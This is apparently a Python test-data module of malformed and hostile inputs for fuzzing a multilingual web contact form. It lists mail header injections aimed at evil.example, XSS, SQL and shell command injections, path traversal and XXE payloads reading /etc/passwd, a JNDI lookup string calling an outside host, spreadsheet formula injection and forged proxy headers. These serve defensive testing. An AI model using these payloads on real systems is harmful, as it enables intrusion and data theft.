"""Nasty inputs: what visitors paste by accident, what scanners send on purpose, and what lies between. Data only."""

from typing import Final

MARK: Final = (
    "x-hostile-9f3a"  # stands in everything that tries to become a header or a recipient; found there, it is a break-in
)

# Header injections: as line ends, encoded, in Unicode's own line separators, folded.
INJECTIONS: Final = tuple(
    text.encode()
    for text in (
        f"\r\nBcc: {MARK}@evil.example",
        f"a\r\nBcc: {MARK}@evil.example\r\nSubject: {MARK}\r\n\r\nbody",
        f"a\nTo: {MARK}@evil.example",
        f"a\rCc: {MARK}@evil.example\r",
        f"%0d%0aBcc:%20{MARK}@evil.example",
        f"%E5%98%8A%E5%98%8DBcc: {MARK}@evil.example",
        f"嘊嘍Bcc: {MARK}@evil.example",
        f"a\u2028Bcc: {MARK}@evil.example\u2029",
        f"a\x85Bcc: {MARK}@evil.example",
        f"a\r\n \tX-Folded: {MARK}",
        f"a\x0b\x0cBcc: {MARK}@evil.example",
        f"=?utf-8?q?=0D=0ABcc:_{MARK}@evil.example?=",
        f"=?utf-8?b?DQpCY2M6IHg=?= {MARK}",
        f"{MARK}@evil.example>, <{MARK}@evil.example",
        f'"{MARK}\r\n"@evil.example',
        f"\r\n.\r\nMAIL FROM:<{MARK}@evil.example>\r\nRCPT TO:<{MARK}@evil.example>\r\nDATA\r\n",
        f"Content-Type: text/html; charset=utf-7\r\n\r\n+ADw-{MARK}",
        f"--===============0==\r\nContent-Disposition: attachment; filename={MARK}.exe\r\n\r\n",
    )
)

TEXTS: Final = (
    *INJECTIONS,
    # Bytes that are no UTF-8: lone surrogates, overlong forms, beyond the last plane, cut short, Windows-1252, UTF-16.
    *(b"\xed\xa0\x80", b"\xed\xb0\x80 \xed\xa0\xbd", b"\xc0\xae\xc0\xae", b"\xc1\xbf", b"\xe0\x80\xaf"),
    *(b"\xf4\x90\x80\x80",),
    *(b"\xff\xfe", b"\xfe\xff\x00a", b"\x80", b"caf\xe9", b"\xe2\x82", b"\xf0\x9f\x98", b"\xf8\x88\x80\x80\x80", b"a\xc2"),
    # Controls, and what is no character.
    *(b"\x00", b"a\x00b", b"\x00" * 300, b"\x01\x02\x07\x08", b"a\x0bb", b"a\x0cb", b"\x1b[2J\x1b]0;x\x07", b"\x7f"),
    *(b"\x1a",),
    *(
        text.encode()
        for text in ("\x80\x9f", "\ufffe\uffff", "\ufdd0", "\U0001fffe", "\U0010ffff", "\ufffd", "\ue000", "\U000e0041")
    ),
    # Nothing to see.
    *(b"", b" ", b"\t", b"\r\n", b"\n\n\n", b"\r", b"\r\r\n\n"),
    *(
        text.encode()
        for text in (
            *("\u200b", "\u200b\u200c\u200d\u2060", "\ufeff", "\u00ad", "\u200e\u200f", "\u2800", "\u3164", "\u115f\u1160"),
            *("\uffa0",),
            *("\u034f", "\ufe0f", "\U000e0001\U000e007f", "\u180e", "\u2028", "\xa0\u2003\u3000", "\x1c\x1d\x1e\x1f"),
            *("\x85",),
        )
    ),
    # Direction, joining, combining.
    *(
        text.encode()
        for text in (
            *("\u202eכתב‎ abc\u202c", "\u2066\u2067\u2068", "\u202a" * 200, "\u2069\u2069", "abc\u202egnp.exe"),
            *("مرحبا\u200fabc",),
            *("👩‍❤️‍💋‍👨👨‍👩‍👧‍👦🏳️‍🌈", "🇫🇮🇸🇪", "e" + "\u0301" * 400, "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘", "ﷺ" * 20, "ﷲ"),
            *("İıſK", "ǆ", "ẞß", "ﬀ"),
            *("ａｂｃ", "𝕏𝔄", "가각", "が", "نمی‌خواهم", "क्‍ष", "ကျေးဇူး", "ꙮ", "𐀀", "\U0002f800"),
        )
    ),
    # What some program may take for its own language.
    *(
        text.encode()
        for text in (
            *("{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% include 'base.html' %}", "{{ config }}"),
            *("{contact:hotline}", "{}", "{0}"),
            *("%s%s%n", "%(names)s", "%", "%d %", "%%", "\\", "\\u0000", "\\N{BULLET}", "&amp;", "&#0;", "&#x202e;", "&lt"),
            *("&",),
            *("<script>alert(1)</script>", "</textarea><script>alert(1)</script>", '"><img src=x onerror=alert(1)>'),
            *("' onfocus=x '",),
            *("<!--", "-->", "]]>", "<![CDATA["),
            *("<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>", "<b>"),
            *("javascript:alert(1)", "'; DROP TABLE outbox; --", "1 OR 1=1", "$(id)", "`id`", "| id", "; id", "&& id"),
            *("../../etc/passwd",),
            *("=cmd|'/c calc'!A1", "@SUM(1)", "+1", "-1", "${jndi:ldap://evil.example/a}", "null", "None", "undefined"),
            *("NaN", "true"),
            *("[object Object]", "[]", '{"a": 1}', '"', "''", '\\"', "():{ :;}; id", "*", "(&(uid=*))", "__proto__"),
            *("constructor",),
        )
    ),
    # What mail programs may take for their own.
    b"-----BEGIN PGP MESSAGE-----\n\nhQEMA\n=aaaa\n-----END PGP MESSAGE-----",
    b"-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA256\n\n- -----\n-----BEGIN PGP SIGNATURE-----",
    b"- dash\n-- \nsignature",
    *(b".", b"a\r\n.\r\nb", b"..", b".\n.\n", b"From me to you", b"a\nFrom x@y Tue Nov 24\nb", b">From "),
    *(b"begin 644 a\n#0V%T\n`\nend",),
    *(b'----------------------------00\r\nContent-Disposition: form-data; name="token"\r\n\r\nx', b"--b--"),
    *(b"\r\n--b--\r\n", b"--"),
    *(b"=3D=0A=", b"a=\nb", b"TVqQAAMAAAAEAAAA", b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b"),
    b"Tunnus: 00000000\nEi vastattu: kaikki\nPuhelin:\n112",  # looks like our own text
    # Length.
    *(b"a" * 200, b"a" * 201, "ä".encode() * 200, "👍".encode() * 201, b"a" * 999, b"b" * 5000, "ß ".encode() * 9999),
    *(b"x" * 20_000,),
    *(b"x" * 20_001, b"\r\n" * 10_000, b"\r\n" * 10_001, "é".encode() * 40_000, b"long line " * 3000, b"<" * 20_000),
    *(b"\xff" * 20_001,),
    # Ordinary words, so that something is taken.
    *(
        text.encode()
        for text in ("Apua", "Jag behöver hjälp", "help me please", "ساعدوني من فضلكم", "Допоможіть", "帮助我", "እርዳታ እፈልጋለሁ")
    ),
    *(b"first\r\nsecond\r\n\r\nthird", b"\r\nleading line", b"  indented", b"trailing \r\n", b"a\tb"),
)

NUMBERS: Final = tuple(
    text.encode()
    for text in (
        *("040 123 4567", "+358 40 1234567", "112", "12", "1" * 20, "1" * 21, "9" * 200, "0", "-1", "1e999", "0x7f", "NaN"),
        *("½", "²³", "Ⅻ"),
        *("٠٤٠١٢٣٤٥٦٧", "۰۴۰۱۲۳۴۵۶۷", "๐๔๐๑๒๓๔๕๖๗", "०४०१२३४५६७", "０４０１２３４", "𝟎𝟏𝟐𝟑𝟒", "①②③④", "〇一二三", "040\n123"),
        *("040\t123", "\u202d+358 40\u202c"),
        *("tel:112", "040 123 4567 or 050", "112\x00", "112\r\n", "+++", "(((112", "\u200b112", "9" * 4000),
    )
)
ADDRESSES: Final = tuple(
    text.encode()
    for text in (
        *("a@b.example", "päivi@esimerkki.fi", "用户@例子.广告", "@", "a@", "@b", "a@b@c", "a b@c", '"a b"@c', "<a@b>", "a@b>"),
        *("a@[::1]",),
        *("a@b,c@d", "a@b;c@d", "a\x00@b", "a@b\x00", "\u200b@\u200b", "a" * 190 + "@b", "a" * 250 + "@b"),
        *("mailto:a@b?bcc=c@d", "a@b\r\n"),
    )
)
DAYS: Final = tuple(
    text.encode()
    for text in (
        *("2030-12-24", "24.12.2030", "24/12/2030", "2030-1-5", "٢٤.١٢.٢٠٣٠", "๒๔.๑๒.๒๐๓๐", "२४.१२.२०३०", "９９９９-１２-３１"),
        *("9999-12-31",),
        *("0000-00-00", "0001-01-01", "0000-01-01", "2030-02-30", "31.2.2030", "99999-01-01", "1.1.1", "-1-1-1"),
        *("2030-13-01", "1970-01-01"),
        *("tomorrow", "24.12.", "2030-12-24T00:00", "2030-12-24\x00", "2030‐12‐24", "24.12.2030\n", "\u200e24.12.2030"),
        *("24٫12٫2030",),
    )
)
TIMES: Final = tuple(
    text.encode()
    for text in (
        *("15:00", "0", "23.59", "24:00", "25:00", "15:60", "15:00:59", "١٥:٠٠", "๑๕:๐๐", "१५", "1500", "3 pm", "-1"),
        *("0:0", "00:00"),
        *("99:99:99", "15：00", "²:00", "15:00\x00", "\u200f15:00", "15h", "noon"),
    )
)
CHOICES: Final = (
    *(b"maybe", b"YES", b" yes", b"yes\x00", b"0", b"\xff", b"yes,no", b"on", b"[]", b"../yes", b"<script>"),
    *(b"EI TURVASSA",),
    *("\u200b".encode(), "kyllä".encode(), b"xx-klingon", b"fi;q=1", b"f" * 3000, INJECTIONS[0], INJECTIONS[1]),
)

# Field names nobody asked for: nested, dunder, of WTForms and Flask, a question's with something around it.
NAMES: Final = (
    *(b"", b" ", b"x", b"_", b"__class__", b"__proto__[x]", b"message[]", b"message[0]", b"message.x", b"message[$ne]"),
    *(b" message",),
    *(b"message ", b"Message", b"MESSAGE", b"csrf_token", b"meta", b"data", b"errors", b"validate", b"process", b"form"),
    *(b"files[]",),
    *(b"to", b"bcc", b"recipient", b"subject", b"from", b"language", b"reference", b"message\x00", b"mess\xffage"),
    *("mëssage".encode(),),
    *(b"safe_time", b"safe_time_", b"token\x00", b"n" * 5000, INJECTIONS[0], b"message%00", b"message;x=1"),
    *(b'a"; name="message',),
)

FILE_NAMES: Final = (
    *(b"kuva.jpg", b"../../etc/passwd", b"..\\..\\boot.ini", b"/etc/passwd", b"C:\\a.exe", b"\\\\host\\share\\a", b"."),
    *(b"..", b".htaccess"),
    *(b"a\x00.jpg", b"\x00", b'a".jpg', b"a\\.jpg", b"a'.jpg", b"a;b=c.jpg", b"a%00.jpg", b"a%0d%0aX: y.jpg", b"a%22.jpg"),
    *(b" ", b"?", b"*"),
    *(b"\xff\xfe.jpg", b"\xed\xa0\x80.jpg", "abc\u202egpj.exe".encode(), "👩‍❤️‍💋‍👨.png".encode(), b"a" * 3000 + b".jpg"),
    *(b"CON", b"nul.txt", b"-rf"),
    *(b"<script>alert(1)</script>.svg", b"&amp;&lt;.png", b"{{7*7}}.pdf", b"%(names)s.pdf", b"%s%n.pdf", b"=?utf-8?q?a?="),
    *(b"a.tar.gz ", b"a."),
    *("\u200b".encode(), "\u2028x".encode(), b"answers.json", b"liite-1.jpg", b"encrypted.asc", INJECTIONS[4], b"a\tb.jpg"),
    *(b"\x7f\x1b[2J",),
    *(f"{MARK}.exe".encode(), f"a.jpg; filename={MARK}.exe".encode()),
)
FILES: Final = (
    *(b"", b"\x00", b"\r\n", b"--", b"\xff\xd8\xff\xe0" + b"x" * 50, b"\x89PNG\r\n\x1a\n" + b"\0" * 20),
    *(b"GIF89a/*<svg onload=alert(1)>*/=1",),
    *(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n<script>", b"PK\x03\x04" + b"\0" * 26, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
    *(b"ID3\x04", b"RIFF\0\0\0\0WEBP"),
    *(b"MZ\x90\x00", b"\x7fELF", b"#!/bin/sh\nid\n", b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>"),
    *(b"\x1f\x8b\x08" + b"\0" * 9,),
    *(b"%PDF-1.4 PK\x03\x04 <html>", b"\0\0\0\x18ftypheic", b"\0\0\0\x18ftypisom", b"x" * 70_000, b"\r\n--b--\r\n" * 20),
    *(bytes(range(256)) * 8,),
    *(b"-----BEGIN PGP MESSAGE-----\n\nhQEMA\n-----END PGP MESSAGE-----\n", b"From a\n.\n", INJECTIONS[1]),
)
# Extra parameters behind a file part's own, and headers of a part.
PART_HEADERS: Final = (
    *(b"", b"Content-Type: image/jpeg", b"Content-Type: text/html; charset=utf-7", b"Content-Type: \xff", b"Content-Type:"),
    *(b"X: y",),
    *(b"Content-Transfer-Encoding: base64", b"Content-Length: 999999999999", b"Content-Length: -1"),
    *(b"Content-Disposition: form-data",),
    *(b"Content-Type: multipart/mixed; boundary=c", b"Content-Type: message/rfc822", b"A: " + b"a" * 4000, b"\xff\xff: x"),
)

# Paths, as they stand in a request line.
PATHS: Final = (
    *("/", "//", "///", "/.", "/..", "/../", "/fi", "/fi/", "/FI/", "/fi//", "/xx/", "/fi/get-help", "/fi/get-help/"),
    *("/fi/get-help/police",),
    *("/fi/get-help/police/", "/fi/get-help/write-to-us", "/fi/get-help/write-to-us/", "/fi/get-help/write-to-us//"),
    *("/fi//get-help/write-to-us/",),
    *("/xx/get-help/write-to-us/", "/en/about/write-to-us/", "/en/about/../get-help/write-to-us/"),
    *("/en/./about/write-to-us/", "/fi/%2e%2e/%2e%2e/etc/passwd"),
    *("/%2e%2e/", "/%00", "/%00/", "/fi/%00/", "/fi/get-help/%ff%fe/", "/%c0%ae%c0%ae/", "/%ed%a0%80/", "/%", "/%zz/"),
    *("/%2", "/fi%2fget-help/", "/fi/%0d%0aX:y/"),
    *("/static/", "/static/../app.py", "/static/%2e%2e/app.py", "/static/site.css", "/static/site.css/", "/static/exit.js"),
    *("/healthz", "/healthz/", "/HEALTHZ"),
    *("/favicon.ico", "/robots.txt", "/.env", "/.git/config", "/wp-login.php", "/admin", "/desk/"),
    *("/fi/<script>alert(1)</script>/", "/fi/{{7*7}}/", "/🦊/"),
    *("/fi/get-help/write-to-us/?message=x&token=y", "/?lang=xx", "/fi/?%00", "/?" + "a" * 4000, "/;a=b/", "/fi;x/"),
    *("/fi/get-help/write-to-us;x/", "/fi/\\..\\"),
    *("/" + "a" * 4000, "/fi/" + "a/" * 2000, "/fi/" + "%41" * 2000, "/fi/" + "ä" * 700, "/fi/get-help/" + "../" * 500),
    *("/fi/get-help/write-to-us/" * 50,),
)
METHODS: Final = ("GET", "HEAD", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "PROPFIND", "get", "BREW", "X" * 60)

# Headers, as a client or a proxy might send them; values in Latin-1, as HTTP carries them.
HEADERS: Final = (
    *(
        ("Host", value)
        for value in (
            "evil.example",
            "",
            "a" * 300,
            "[",
            "[::1]:x",
            "a b",
            "ä",
            "localhost:99999",
            "x:y:z",
            "..",
            "%00",
            "@",
            "-",
        )
    ),
    *(
        ("Accept-Language", value)
        for value in (
            "",
            "*",
            "fi",
            "ar-SY, *;q=0",
            "xx;q=nan",
            "a" * 5000,
            "fi;q=1e999",
            ",,,;;;",
            "fi-" * 900,
            "ä",
            "en;q=-1",
            "\x7f",
        )
    ),
    *(
        ("Accept-Encoding", value)
        for value in ("", "*", "br", "gzip;q=nan", "br;q=x", "br;q=0, *;q=0", "identity;q=0", "gzip;" * 500, "br;q=1e400")
    ),
    *(("Cookie", value) for value in ("a=b", "session=" + "x" * 4000, ";;=", "a=\xff", "__Host-a=1; a=1; a=2", "\x01")),
    *(
        ("Origin", value)
        for value in (
            "null",
            "https://evil.example",
            "http://[",
            "http://localhost",
            "",
            "//",
            "https://\u2100.example",
            "x" * 3000,
        )
    ),
    *(("Sec-Fetch-Site", value) for value in ("same-origin", "cross-site", "CROSS-SITE", "none", "x", "")),
    *(("X-Forwarded-For", value) for value in ("127.0.0.1", "x", "1.2.3.4, " * 300, "::1%eth0", "")),
    *(("X-Forwarded-Host", "evil.example"), ("X-Forwarded-Proto", "https"), ("X-Forwarded-Prefix", "//evil.example")),
    *(("Forwarded", "for=_;host=evil"),),
    *(("X-HTTP-Method-Override", "DELETE"), ("X-Original-URL", "/admin"), ("Range", "bytes=0-1"), ("Range", "x")),
    *(("Expect", "x"), ("Upgrade", "h2c")),
    *(("If-None-Match", "*"), ("If-Modified-Since", "x"), ("Authorization", "Basic \xff"), ("Referer", "\x7f")),
    *(("User-Agent", ""), ("Date", "x")),
    *(("Accept", "application/json"), ("Accept", "\xff"), ("Content-Encoding", "gzip"), ("Content-Language", "xx")),
    *(("Pragma", "x"), ("Te", "x")),
)
CONTENT_TYPES: Final = (
    *("", "text/plain", "application/json", "application/xml", "multipart/form-data", "multipart/form-data; boundary="),
    *("multipart/mixed; boundary=b",),
    *("multipart/form-data; boundary=wrong", "multipart/form-data; boundary=\xe4", 'multipart/form-data; boundary="b'),
    *("multipart/form-data; boundary=b; boundary=c",),
    *("MULTIPART/FORM-DATA; BOUNDARY=b", "multipart/form-data; boundary*=utf-8''b"),
    *("multipart/form-data; boundary=" + "b" * 3000, "\xff/\xff", ";", "a", "*/*"),
    *("application/x-www-form-urlencoded; charset=utf-16", "application/x-www-form-urlencoded; charset=idna"),
    *("application/x-www-form-urlencoded;;;=",),
    *('multipart/form-data; boundary="b\\"', "multipart/form-data; boundary=.*", "multipart/form-data; boundary=("),
    *("multipart/form-data, x; boundary=b",),
)

# Bodies that are no form, for any of the types above.
BODIES: Final = (
    *(b"", b"\x00", b"--b", b"--b--", b"--b\r\n", b"--b\r\n\r\n--b--\r\n"),
    *(b"--b\r\nContent-Disposition: form-data\r\n\r\nx\r\n--b--\r\n", b"&&&===&"),
    *(b"--b\r\nContent-Disposition: form-data; name=message\r\n\r\nx",),
    *(b'--b\nContent-Disposition: form-data; name="message"\n\nx\n--b--\n', b"%", b"a=%zz&%"),
    *(b'--b\r\nContent-Disposition: attachment; name="message"\r\n\r\nx\r\n--b--\r\n',),
    *(b"--b\r\nX: " + b"a" * 100_000 + b"\r\n\r\nx\r\n--b--\r\n", b"\xff=\xff"),
    *(b"--b\r\n" + b"X: y\r\n" * 5000 + b"\r\nx\r\n--b--\r\n", b"--b\r\n: \r\n\r\n--b--"),
    *(b"--b\r\nnocolon\r\n\r\nx\r\n--b--", b"\r\n" * 5000, b"--b \t \r\n"),
    *(b'--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n\r\n' * 250 + b"--b--\r\n", b"a=1&" * 400),
    *(b"message=" + b"x" * 300_000, b'{"message": "x"}'),
    *(b"--b\r\nContent-Disposition: form-data; name*=utf-8''mess%61ge; filename*=utf-9''%ff\r\n\r\nx\r\n--b--\r\n",),
    *(b"--b--" + b"epilogue" * 9000, b"preamble--b\r\n"),
    *(b'--b\r\nContent-Disposition: form-data; name="files"; filename="a"; filename="b"; filename*0=c\r\n\r\nx\r\n--b--\r\n',),
    *(b"<a/>",),
    *(b"--b\r\nContent-Disposition: form-data; " + b'x="' * 4000 + b"\r\n\r\nx\r\n--b--\r\n",),
    *(b"--b\r\nContent-Disposition: " + b";" * 8000 + b"\r\n\r\nx\r\n--b--\r\n",),
)
